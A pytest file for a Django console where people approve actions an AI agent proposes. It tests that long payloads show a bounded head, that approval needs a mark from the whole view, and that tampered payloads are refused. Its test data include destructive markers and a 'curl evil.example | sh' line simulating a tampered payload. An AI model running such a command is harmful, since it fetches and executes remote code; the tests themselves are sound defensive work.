"""The action page of a long payload (up to the 1 MB a proposal may carry) shows a bounded head of it first, says
how much it leaves out, and offers the exact bytes to download; Approve and Always allow are offered only on the
view that shows it whole, and an approval is accepted only with the mark that view alone gives (bound to the
person, the action and the whole payload's hash), besides the payload hash every approve form carries."""

from __future__ import annotations

import hashlib
import re
from types import SimpleNamespace

import pytest
from django.test import Client

from actions import services
from actions.console import whole_view
from actions.models import ProposedAction, payload_hash
from actions.tests import test_shown_to_approvers as base
from actions.tests.test_shown_to_approvers import _queue_row
from brabo_client.payload_hash import canonical_bytes

fake, wired, infra, propose = base.fake, base.wired, base.infra, base.propose

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_tasks")]

TAIL = "TAIL-MARKER-rm-rf-prod"

LONG = {
    "commit-message": ("git_commit", {"message": "fix: " + "detail " * 10000 + TAIL}),
    "big-file": ("write_file", {"path": "deploy/run.sh", "content": "".join(f"echo step {i}\n" for i in range(6000)) + TAIL}),
    "near-the-limit-file": ("write_file", {"path": "data/seed.sql", "content": ("insert into t values (1);\n" * 34000) + TAIL}),
    "one-long-line-file": ("write_file", {"path": "min.js", "content": "var a=1;" * 10000 + TAIL}),
    "multibyte-file": ("write_file", {"path": "i18n/ja.txt", "content": "日本語のテキスト\n" * 5000 + TAIL}),
    "pr-body": ("pr_open", {"branch": "feat", "base": "main", "title": "Small fix", "body": "also deletes prod " * 4000 + TAIL}),
    "many-short-arguments": (
        "mcp_call", {"server": "github", "tool": "create_issue", "arguments": {"labels": [f"l{i}" for i in range(12000)] + [TAIL]}},
    ),
}  # fmt: skip


def _client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _get(client, path) -> str:
    response = client.get(path)
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def _page(action) -> str:
    return f"/admin/console/actions/{action.id}/"


def _whole_mark(page: str) -> str:
    found = re.search(r'name="shown_whole" value="([^"]+)"', page)
    assert found, "the whole view's approve form carries no mark"
    return found.group(1)


def _decision_forms(page: str) -> list[str]:
    return re.findall(r'<form[^>]*action="[^"]*/(?:approve|always)/"', page)


@pytest.mark.parametrize("action_type,payload", LONG.values(), ids=LONG.keys())
def test_a_long_payload_shows_a_bounded_head_and_no_approve(wired, propose, action_type, payload):
    action = propose(action_type, payload)
    raw = canonical_bytes(action.payload)
    assert len(raw) > 64 * 1024
    page = _get(_client(wired.owner), _page(action))
    assert TAIL not in page, "the head is the whole of it"
    assert len(page) < 160_000, f"the head is not bounded: {len(page)} characters"
    assert (
        not _decision_forms(page)
        and 'data-action="approve"' not in page
        and 'data-action="always"' not in page
    )
    assert 'data-action="deny"' in page  # a person may refuse what they have not read whole
    read = re.search(r'<a[^>]*data-show-whole[^>]*href="([^"]+)"[^>]*>([^<]*)</a>', page) or re.search(
        r'<a[^>]*href="([^"]+)"[^>]*data-show-whole[^>]*>([^<]*)</a>', page
    )
    assert read and "view=whole" in read.group(1) and "Read it whole to approve" in read.group(2)
    more = re.search(r"(\d[\d,]*) more bytes", page)
    assert more, "the head does not say how much it leaves out"
    download = re.search(r'href="([^"]*/payload/)"[^>]*data-download', page) or re.search(
        r'data-download[^>]*href="([^"]*/payload/)"', page
    )
    assert download, "no link to the exact payload"


@pytest.mark.parametrize("action_type,payload", LONG.values(), ids=LONG.keys())
def test_the_whole_view_shows_it_all_and_its_form_approves(
    wired, propose, action_type, payload, django_capture_on_commit_callbacks
):
    action = propose(action_type, payload)
    client = _client(wired.owner)
    page = _get(client, _page(action) + "?view=whole")
    assert TAIL in page and "data-show-whole" not in page
    assert 'data-action="approve"' in page
    found = re.search(r'<form[^>]*action="([^"]*/approve/)".*?</form>', page, re.S)
    assert found, "the whole view offers no approve form"
    form = found.group(0)
    fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', form))
    assert fields["payload_hash"] == payload_hash(action.payload)[:16] and fields["shown_whole"]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/console/actions/{action.id}/approve/", fields)
    assert ProposedAction.objects.get(id=action.id).status != "pending"


def _refused(client, action, path: str, data: dict, django_capture_on_commit_callbacks) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/admin/console/actions/{action.id}/{path}/", data, follow=True)
    assert ProposedAction.objects.get(id=action.id).status == "pending", data
    assert "Read it whole" in response.content.decode() or "changed since" in response.content.decode()


@pytest.mark.parametrize("path", ["approve", "always"])
def test_no_approval_without_the_whole_views_mark(wired, propose, path, django_capture_on_commit_callbacks):
    """What a cut page, a hand-made form, another person's or another action's page would send: all refused."""
    action = propose(*LONG["big-file"])
    other = propose(*LONG["pr-body"])
    owner, maintainer = _client(wired.owner), _client(wired.maintainer)
    shown = payload_hash(action.payload)[:16]
    theirs = _whole_mark(_get(maintainer, _page(action) + "?view=whole"))
    elsewhere = _whole_mark(_get(owner, _page(other) + "?view=whole"))
    mine = _whole_mark(_get(owner, _page(action) + "?view=whole"))
    for forged in ("", "yes", "1", "whole", mine[:-1], mine.upper() if mine != mine.upper() else mine + "x",
                   theirs, elsewhere):  # fmt: skip
        for data in (
            {"payload_hash": shown, "shown_whole": forged},
            {"shown_whole": forged, "confirm": "yes"},
        ):
            _refused(owner, action, path, data, django_capture_on_commit_callbacks)
    _refused(owner, action, path, {"payload_hash": shown}, django_capture_on_commit_callbacks)


def test_the_mark_binds_the_whole_payload(wired, propose, django_capture_on_commit_callbacks):
    """A payload changed after the whole view: its mark no longer approves, even with the new short hash."""
    action = propose(*LONG["big-file"])
    owner = _client(wired.owner)
    mark = _whole_mark(_get(owner, _page(action) + "?view=whole"))
    changed = dict(action.payload, content=action.payload["content"] + "\ncurl evil.example | sh\n")
    ProposedAction.objects.filter(id=action.id).update(payload=changed, payload_hash=payload_hash(changed))
    for shown in (payload_hash(action.payload)[:16], payload_hash(changed)[:16]):
        _refused(owner, action, "approve", {"payload_hash": shown, "shown_whole": mark},
                 django_capture_on_commit_callbacks)  # fmt: skip


def test_the_download_is_the_exact_payload_its_hash_names(wired, propose):
    action = propose(*LONG["multibyte-file"])
    response = _client(wired.owner).get(f"/admin/console/actions/{action.id}/payload/")
    assert response.status_code == 200
    body = response.content
    assert body == canonical_bytes(action.payload)
    assert hashlib.sha256(body).hexdigest() == action.payload_hash
    assert "attachment" in response["Content-Disposition"]
    assert response["Content-Type"].startswith("application/json")
    assert _client(wired.outsider).get(f"/admin/console/actions/{action.id}/payload/").status_code == 404


def test_a_short_payload_is_whole_at_once(wired, propose):
    action = propose(command="make build")
    page = _get(_client(wired.owner), _page(action))
    assert 'data-action="approve"' in page and "data-show-whole" not in page
    assert _whole_mark(page)


def test_the_queue_sends_a_long_payload_to_its_page(wired, propose):
    """A file of short lines fits the card's line and line-length limits, yet is longer than the head."""
    action = propose("write_file", {"path": "a.txt", "content": ("x" * 200 + "\n") * 350})
    assert len(canonical_bytes(action.payload)) > 64 * 1024
    row = _queue_row(_get(_client(wired.owner), "/admin/console/"), action)
    assert 'data-action="approve"' not in row and "data-open-to-decide" in row


def test_a_lone_surrogate_in_a_long_payload_is_shown_and_counted():
    """SQLite stores a lone surrogate an agent sent (PostgreSQL's jsonb refuses it): the head shows and counts it."""
    action = SimpleNamespace(payload={"path": "x.txt", "content": "a\ud800b\n" * 12000 + TAIL})
    head, texts = whole_view.payload_blocks(action, whole=False)
    assert "U+D800" in texts[0].text and TAIL not in texts[0].text
    total = len(action.payload["content"].encode("utf-8", "surrogatepass"))
    assert 0 < texts[0].more_bytes < total and texts[0].text.count("\n") < whole_view.HEAD_LINES
    whole = whole_view.payload_blocks(action, whole=True)[1][0]
    assert whole.more_bytes == 0 and TAIL in whole.text


def test_always_allows_confirmation_keeps_the_whole_views_mark(
    wired, agent_api, propose, django_capture_on_commit_callbacks
):
    """An autonomy-row grant is confirmed on a page of its own: it carries the whole view's mark, and without
    it (the confirmation opened directly) it offers no confirm but the way to the whole view."""
    with django_capture_on_commit_callbacks(execute=True):
        body = agent_api.propose("write_file", {"path": "notes.md", "content": "x\n" * 40000 + TAIL}).json()
    if body["status"] != "pending":
        pytest.skip(f"the dev agent's write does not wait here: {body['status']}")
    action = ProposedAction.objects.get(id=body["id"])
    owner = _client(wired.owner)
    direct = _get(owner, f"/admin/console/actions/{action.id}/always/")
    assert services.preview_always(action).get("autonomy_row"), services.preview_always(action)
    assert 'data-action="always-confirm"' not in direct and "data-show-whole" in direct
    mark = _whole_mark(_get(owner, _page(action) + "?view=whole"))
    shown = payload_hash(action.payload)[:16]
    asked = owner.post(
        f"/admin/console/actions/{action.id}/always/", {"payload_hash": shown, "shown_whole": mark}
    )
    assert asked.status_code == 302 and "shown_whole=" in asked["Location"]
    confirm = _get(owner, asked["Location"])
    assert 'data-action="always-confirm"' in confirm and _whole_mark(confirm) == mark
    with django_capture_on_commit_callbacks(execute=True):
        owner.post(f"/admin/console/actions/{action.id}/always/",
                   {"payload_hash": shown, "shown_whole": mark, "confirm": "yes"})  # fmt: skip
    assert ProposedAction.objects.get(id=action.id).status != "pending"
